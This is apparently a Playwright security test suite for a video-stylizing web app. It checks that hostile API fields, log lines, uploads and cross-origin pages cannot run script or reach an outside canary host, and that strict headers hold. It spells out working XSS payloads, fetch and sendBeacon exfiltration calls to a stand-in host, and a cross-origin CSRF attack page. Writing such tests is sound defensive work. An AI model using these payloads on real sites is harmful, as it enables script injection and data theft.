"""What others can name reaches the page as text: a real browser runs none of it and speaks to nobody else."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Page, Route

from tests.api.serving import Served
from tests.page.chromium import PATIENCE, chromium
from tests.torture.access.canary import canary
from tests.torture.access.judge import held
from tests.torture.toll import Toll

OWNED = "window.owned === undefined && document.title !== 'owned' && !document.querySelector('[data-owned]')"
JOB = "clip-0123456789"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


def opened(browser: Browser) -> Page:
    """Return a page of its own session, which gives a busy machine its time."""
    page = browser.new_page()
    page.set_default_timeout(PATIENCE)
    return page


def hostile(elsewhere: str) -> list[str]:
    """Return texts that would run, load or hide something where they are not taken as text."""
    run = f"window.owned=1;fetch('{elsewhere}/ran')"
    return [
        f'<img src=x onerror="{run}" data-owned>',
        f'"><script data-owned>{run}</script>',
        f"'><svg/onload={run} data-owned>",
        f"<iframe srcdoc='<script>parent.owned=1</script>' src={elsewhere}/frame data-owned></iframe>",
        f"<link rel=stylesheet href={elsewhere}/style data-owned><style>@import '{elsewhere}/x'</style>",
        f"javascript:{run}//",
        f" JaVaScRiPt:{run}",
        f"data:text/html,<script>{run}</script>",
        f"{elsewhere}/picture.png",
        f"//{elsewhere.partition('//')[2]}/x",
        f"</title><base href={elsewhere}/ data-owned>",
        f"{{{{constructor.constructor('{run}')()}}}}${{{run}}}`{run}`",
        "\u202egnp.4pm\u202c \u2066<b data-owned>\u2069 \u0000\u0007 \u200b",
        f'x" onmouseover="{run}" style="background:url({elsewhere}/css)" data-owned="',
        f"a.mp4#<meta http-equiv=refresh content='0;url={elsewhere}/meta' data-owned>",
        f"<a href='{elsewhere}/ping' ping='{elsewhere}/ping' data-owned>click</a>",
    ]


def poisoned(document: Any, draw: random.Random, texts: list[str]) -> Any:
    """Return a document of the API in which hostile texts stand where others can name something."""
    if isinstance(document, dict):
        return {name: poisoned(value, draw, texts) for name, value in document.items()}
    if isinstance(document, list):
        return [poisoned(value, draw, texts) for value in document]
    return draw.choice(texts) if document == "?" else document


def answers() -> dict[str, Any]:
    """Return what the API tells, with "?" for all texts that uploads, styles, models and nodes can choose."""
    names = ("self", "batches", "logs", "media", "retry", "amlStudio", "portal", "approve")
    progress = {"framesDone": 3, "framesTotal": 12, "percent": 25, "batchesTotal": 1, "batchesDone": 0}
    source = {"blob": "?", "codec": "?", "width": 64, "height": 48, "frameRate": "25", "segments": 1}
    job = {
        "id": JOB,
        "kind": "stylizeVideo",
        "status": "Failed",
        "phase": "failed",
        "summary": "?",
        "style": "?",
        "createdAt": "2026-01-01T00:00:00Z",
        "endedAt": "2026-01-01T00:01:00Z",
        "waiting": "?",
        "evictions": 1,
        "options": {"mix": "?", "hdr": "?"},
        "input": {**source, "durationSeconds": 1.0, "hasAudio": True},
        "error": {"code": "?", "message": "?", "advice": "?", "runUrl": "?"},
        "links": dict.fromkeys(names, "?"),
        "progress": {**progress, "batchesRunning": 0, "batchesFailed": 1, "batchStates": "F", "retries": 1},
        "result": {"blob": "?", "url": "?", "sizeBytes": 5, "container": "?"},
        "cost": {"estimate": 0.1, "currency": "USD", "nodeSeconds": 5},
        "quote": {"minutes": {"low": 1, "likely": 2, "high": 3}, "reasons": ["?"]},
    }
    counts = {"index": 0, "state": "Failed", "frames": 12, "framesDone": 3, "attempt": 1}
    batch = {**counts, "runId": "?", "error": "?", "studioUrl": "?", "node": "?"}
    texts = ("name", "title", "description", "provenance", "painting", "license")
    style = {**dict.fromkeys(texts, "?"), "pictures": {"before": "?", "after": "?"}, "variants": ["?"]}
    return {
        f"**/api/jobs/{JOB}": job,
        "**/api/jobs?*": {"value": [job]},
        f"**/api/jobs/{JOB}/batches": {"value": [batch]},
        f"**/api/jobs/{JOB}/media": {"source": "?", "output": "?", "watch": "?", "frameRate": "?"},
        "**/api/styles": {"value": [style], "default": "?"},
    }


def telling(body: str, media_type: str) -> Callable[[Route], None]:
    """Return what answers a request with `body`."""
    return lambda route: route.fulfill(status=200, content_type=media_type, body=body)


@pytest.mark.torture("hostile names, cards, messages and log lines in a real browser", full=60, slice=3)
def test_what_others_name_stays_text(toll: Toll, browser: Browser, unguarded: Served) -> None:
    with canary() as (elsewhere, heard):
        texts = hostile(elsewhere)
        for seed in toll.seeds():
            draw = random.Random(seed)
            page = opened(browser)
            said: list[str] = []
            page.on("dialog", lambda dialog, said=said: said.append(dialog.message))
            for pattern, document in answers().items():
                page.route(pattern, telling(json.dumps(poisoned(document, draw, texts)), "application/json"))
            page.route("**/logs*", telling("\n".join(draw.sample(texts, 5)), "text/plain"))
            page.goto(f"{unguarded.base}/#/")
            page.wait_for_selector("#jobs .job")
            unharmed = page.evaluate(OWNED)
            page.goto(f"{unguarded.base}/#/jobs/{JOB}")
            page.wait_for_selector("#view:visible")
            click_all(page)
            unharmed = unharmed and still(page) and not said
            page.close()
            held(toll, unharmed and not heard, f"seed {seed}: {said} {heard[:2]}")
            heard.clear()


def still(page: Page) -> bool:
    """Tell whether nothing ran in the page, also where a press leads away within the app late."""
    while True:
        with suppress(Error):
            return bool(page.evaluate(OWNED))
        page.wait_for_load_state()


def click_all(page: Page) -> None:
    """Press what a curious person would, and come back when it leads away within the app."""
    here = page.url
    for selector in ("#batches summary", "#rows button", "#rows tr", "#view a", "#failure a"):
        for found in page.locator(selector).all()[:3]:
            with suppress(Error):  # it is hidden, or its target is none that a browser opens
                found.click(timeout=200, no_wait_after=True)
            if page.url != here:
                page.goto(here)


@pytest.mark.torture("the page's policy: scripts, pictures, forms and calls to elsewhere", full=9, slice=9)
def test_the_policy_holds_in_a_browser(toll: Toll, browser: Browser, unguarded: Served) -> None:
    with canary() as (elsewhere, heard):
        made = "const made = document.createElement('{}'); {}; document.body.append(made)"
        html = "document.body.insertAdjacentHTML('beforeend', `{}`)"
        form = f"<form action='{elsewhere}/p' method=post></form>"
        tries = (
            made.format("script", "made.text = 'window.owned = 1'"),
            made.format("script", f"made.src = '{elsewhere}/s.js'"),
            made.format("img", f"made.src = '{elsewhere}/s.png'"),
            made.format("iframe", f"made.src = '{elsewhere}/f'"),
            made.format("link", f"made.rel = 'stylesheet'; made.href = '{elsewhere}/c'"),
            f"fetch('{elsewhere}/f', {{ mode: 'no-cors', method: 'POST', body: 'key' }}).catch(() => 0)",
            f"navigator.sendBeacon('{elsewhere}/b', 'key')",
            f"{html.format(form)}; document.body.lastChild.submit()",
            html.format("<img src=x onerror='window.owned = 1'>"),
        )
        page = opened(browser)
        page.goto(f"{elsewhere}/seen")
        assert heard[0].startswith("GET /seen "), "the canary notices a visit"
        page.goto(unguarded.base)
        for script in tries:
            page.goto(unguarded.base)
            page.wait_for_selector("#jobs-empty, #jobs .job", state="attached")
            heard.clear()
            page.evaluate(f"() => {{ {script} }}")
            page.wait_for_timeout(150)
            held(toll, page.evaluate("window.owned === undefined") and not heard, f"{script}: {heard[:1]}")
        page.close()


ATTACKER = """<!doctype html><title>another site</title><body>
<form id=f method=post action="{base}/api/uploads" enctype="text/plain">
<input name='{{"name":"evil.mp4","sizeBytes":5,"x":"' value='"}}'></form>
<iframe id=i src="{base}/"></iframe><img src="{base}/api/jobs"><script src="{base}/api/jobs"></script>
<iframe name=t></iframe><script>
f.target = "t"; f.submit(); window.read = [];
const evil = {{ method: "POST", body: '{{"name":"evil.mp4","sizeBytes":5}}' }};
for (const [path, how] of [
  ["/api/jobs", {{}}],
  ["/api/uploads", {{ ...evil, mode: "no-cors" }}],
  ["/api/uploads", {{ ...evil, headers: {{ "content-type": "application/json" }} }}],
  ["/runtime/webhooks/durabletask/instances", {{}}],
  ["/admin/functions/upkeep", {{ ...evil, mode: "no-cors" }}],
]) fetch("{base}" + path, how).then((answer) => answer.text())
  .then((text) => text && read.push(text), () => 0);
</script>"""


@pytest.mark.torture("a page of another origin, in a real browser, at an app without keys", full=2, slice=2)
def test_a_page_of_another_origin(toll: Toll, browser: Browser, unguarded: Served) -> None:
    for name in (unguarded.base, unguarded.base.replace("127.0.0.1", "localhost")):
        attack = ATTACKER.format(base=name).encode()
        with canary(body=attack, content_type="text/html") as (elsewhere, _):
            page = opened(browser)
            page.goto(elsewhere)
            page.wait_for_timeout(700)
            read = page.evaluate("window.read")
            framed = [frame.url for frame in page.frames[1:] if frame.query_selector("#jobs") is not None]
            blobs = list(unguarded.store.list("input"))
            held(toll, not read and not blobs and not framed, f"{read} {blobs} {framed}")
            page.close()


ENDINGS = (
    "html", "htm", "svg", "xml", "xhtml", "xht", "js", "mjs", "css", "pdf", "swf", "json", "mp4", "wasm",
    "txt", "mht", "shtml", "HTML", "SVG", "html.mp4", "mp4.html", "webmanifest", "rdf", "xsl", "vtt",
    "gif", "jpg", "png", "ts", "",
)  # fmt: skip
SHOWN = ("video/", "image/", "application/json", "application/octet-stream", "application/mxf")


@pytest.mark.torture("uploads that a browser would run: served beside the page", full=30, slice=30)
def test_an_upload_is_never_run(toll: Toll, browser: Browser, unguarded: Served) -> None:
    with canary() as (elsewhere, heard):
        page = opened(browser)
        run = f"document.title='owned';fetch('{elsewhere}/ran')"
        script = f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></html>"
        for ending in ENDINGS:
            name = f"evil.{ending}" if ending else "evil"
            unguarded.store.put_bytes("output", name, script.encode())
            url = unguarded.base + unguarded.store.signed_url("output", name, write=False, seconds=60)
            answer = unguarded.client.get(url)
            kind = answer.headers["content-type"].partition(";")[0]
            harmless = kind.startswith(SHOWN) and kind != "image/svg+xml"
            safe = harmless and answer.headers["x-content-type-options"] == "nosniff"
            with suppress(Error):  # it is saved, not shown
                page.goto(url)
            owned = page.title() == "owned" or bool(heard)
            held(toll, safe and not owned, f"{name}: {kind} {heard}")
            unguarded.store.delete("output", name)
            heard.clear()
        page.close()


CLOSED = ("default-src", "base-uri", "form-action", "frame-ancestors")


@pytest.mark.torture("headers of the page and of private answers", full=5, slice=5)
def test_headers(toll: Toll, unguarded: Served) -> None:
    page = unguarded.client.get("/").headers
    rules = {rule.split()[0]: rule.partition(" ")[2] for rule in page["content-security-policy"].split("; ")}
    scripts = rules["script-src"].split() + rules["style-src"].split()
    held(toll, all(rules[name] == "'none'" for name in CLOSED), rules)
    held(toll, all(one.startswith("'sha256-") for one in scripts) and "*" not in str(rules.values()), rules)
    private = [page, *(unguarded.client.get(f"/api/{name}").headers for name in ("jobs", "styles"))]
    kept = [one["cache-control"] for one in private]
    held(toll, all("private" in one for one in kept), kept)
    held(toll, all(one["x-content-type-options"] == "nosniff" for one in private), "sniffed")
    held(toll, page["referrer-policy"] == "no-referrer", page["referrer-policy"])
